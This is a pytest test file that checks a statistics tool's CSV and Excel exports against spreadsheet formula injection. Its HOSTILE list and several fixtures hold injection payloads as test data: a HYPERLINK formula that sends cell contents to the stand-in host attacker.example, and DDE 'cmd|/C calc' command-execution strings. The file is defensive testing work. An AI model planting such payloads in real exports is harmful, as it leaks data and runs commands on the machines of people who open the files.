"""Spreadsheet exports are safe against formula injection; real numbers stay numbers.

Every CSV and XLSX chitieu writes is opened again with ``csv`` and openpyxl: a text cell that
begins with = + - @, a tab or a carriage return must be text (an apostrophe in CSV, a string
with the quote prefix in XLSX), never a formula, and the tidy CSV reads back to the same notes.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from decimal import Decimal as D

import pytest
from openpyxl import load_workbook

from chitieu.exports import to_sdmx_csv, to_tidy_csv
from chitieu.formulas import csv_cell, from_csv_cell, looks_like_formula
from chitieu.observation_csv import read_observations_text
from chitieu.observations import Observation
from chitieu.plan import Sex
from chitieu.reports.excel import render_xlsx
from chitieu.reports.model import ObservationRow
from tests.core.konray import konray_plan
from tests.reports.sample import sample_report

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "- 3 xã chưa báo cáo",  # a Vietnamese bullet: harmless, but a spreadsheet cannot tell
]
NUMBERS = ["-4", "-1,5", "+3", "-0.25", "-1.234,5", "12%"]


@pytest.mark.parametrize("text", [t for t in HOSTILE if "\r" not in t])
def test_formula_like_text_is_guarded_and_read_back(text):
    assert looks_like_formula(text)
    assert csv_cell(text) == "'" + text
    assert from_csv_cell(csv_cell(text)) == text


def test_a_carriage_return_becomes_a_line_break_that_csv_quotes():
    assert looks_like_formula("\r=1+1")
    assert csv_cell("\r=1+1") == "\n=1+1"
    assert csv_cell("dòng 1\r\ndòng 2") == "dòng 1\ndòng 2"


@pytest.mark.parametrize("text", [*NUMBERS, "Xã Đăk Rve", "", "'quoted already", "a=b"])
def test_numbers_and_plain_text_are_left_alone(text):
    assert not looks_like_formula(text)
    assert csv_cell(text) == text
    assert from_csv_cell(text) == text


def _observations() -> list[Observation]:
    rows = []
    for n, note in enumerate(HOSTILE):
        rows.append(
            Observation(
                indicator="6.3",
                period=f"2024-Q{n % 4 + 1}",
                org_unit="=cmd|'/C calc'!A0" if n == 0 else f"Xã {n}",
                sex=None,
                value=D(n + 1),
                note=note,
                source=f"line {n + 2}",
            )
        )
    rows.append(Observation("2.1", "2024", "", Sex.FEMALE, D(-4), D(10), None, "-4", "line 99"))
    return rows


def _csv_rows(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def _assert_no_formula_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not looks_like_formula(cell), (cell, row)


@pytest.mark.parametrize(("delimiter", "decimal_comma"), [(",", False), (";", True)])
def test_tidy_csv_export_guards_text_and_keeps_numbers(delimiter, decimal_comma):
    observations = _observations()
    text = to_tidy_csv(observations, delimiter=delimiter, decimal_comma=decimal_comma).text
    rows = _csv_rows(text, delimiter)
    _assert_no_formula_cells(rows)
    notes = {row[0] + row[1] + row[2]: row[7] for row in rows[1:]}
    assert notes["6.32024-Q1'=cmd|'/C calc'!A0"].startswith("'=HYPERLINK")
    negative = next(row for row in rows if row[0] == "2.1")
    assert negative[4] == "-4" and negative[7] == "-4"  # a number stays a number, even in a note
    # Read back by chitieu: the same units and notes as were exported.
    # (The negative numerator is refused by the reader, as it must be: figures are not negative.)
    back, issues = read_observations_text(text)
    assert [i.code for i in issues if i.severity == "error"] == ["negative"]
    assert sorted((o.org_unit, o.note) for o in back) == sorted(
        (o.org_unit, o.note.replace("\r", "\n").strip()) for o in observations if o.indicator == "6.3"
    )


def test_sdmx_csv_export_guards_text():
    rows = _csv_rows(to_sdmx_csv(_observations(), plan=konray_plan()).text)
    _assert_no_formula_cells(rows)
    assert any(row[-1] == "'@SUM(A1:A9)" for row in rows)


def test_excel_annex_has_no_formula_and_keeps_negative_numbers():
    report = sample_report()
    hostile_rows = tuple(replace(row, text=HOSTILE[i % len(HOSTILE)]) for i, row in enumerate(report.rows))
    observations = tuple(
        ObservationRow("2.1", "2024", text, "", D(-4), D(10), D("-40"), note=text, source=text)
        for text in HOSTILE
    )
    header = replace(report.header, issuing_body='=HYPERLINK("http://x")')
    report = replace(
        report, rows=hostile_rows, observations=observations, header=header, table_title="@SUM(A1)"
    )
    workbook = load_workbook(io.BytesIO(render_xlsx(report)))
    seen_guarded = 0
    numbers = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cell.data_type == "s" and cell.quotePrefix, (
                        sheet.title,
                        cell.coordinate,
                        cell.value,
                    )
                    seen_guarded += 1
                if isinstance(cell.value, int | float):
                    numbers.append(cell.value)
    assert seen_guarded >= len(HOSTILE) * 3
    assert -4 in numbers and -40 in numbers  # figures are still numbers
